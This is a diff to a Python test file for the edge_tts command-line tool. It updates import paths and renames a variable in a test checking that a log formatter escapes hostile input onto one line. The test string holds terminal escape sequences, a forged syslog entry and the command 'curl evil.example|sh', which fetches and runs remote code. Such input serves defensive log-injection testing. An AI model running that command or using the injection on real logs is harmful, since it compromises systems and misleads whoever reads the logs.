@@ -10,10 +10,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from edge_tts.cli import _OneLine
+from edge_tts.cli.main import _OneLine
 from edge_tts.errors import MOST_CHARS, EdgeTTSError, VoiceError
 from edge_tts.schema import check_json
-from edge_tts.store.voice_format import Card
+from edge_tts.voices.format import Card
 
 HOSTILE = "x\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\u2028\nNov 22 03:00:00 home systemd[1]: run: curl evil.example|sh"
 
@@ -54,9 +54,9 @@ def test_a_hostile_key_is_told_in_a_few_words(key: str) -> None:
 
 def test_the_log_has_one_line_per_record() -> None:
     """Also where a line quotes what is no error of ours; a traceback keeps its lines."""
-    shown = _OneLine("%(levelname)s %(message)s")
+    announced = _OneLine("%(levelname)s %(message)s")
     record = logging.LogRecord("x", logging.WARNING, "x.py", 1, "refused %s", (HOSTILE,), None)
-    line = shown.format(record)
+    line = announced.format(record)
     assert line.startswith("WARNING refused x\\u001b]0;owned")
     assert is_fit(line)
     try:
@@ -65,4 +65,4 @@ def test_the_log_has_one_line_per_record() -> None:
         record = logging.LogRecord(
             "x", logging.ERROR, "x.py", 1, "it ends", (), (ValueError, error, error.__traceback__)
         )
-    assert len(shown.format(record).splitlines()) > 3
+    assert len(announced.format(record).splitlines()) > 3
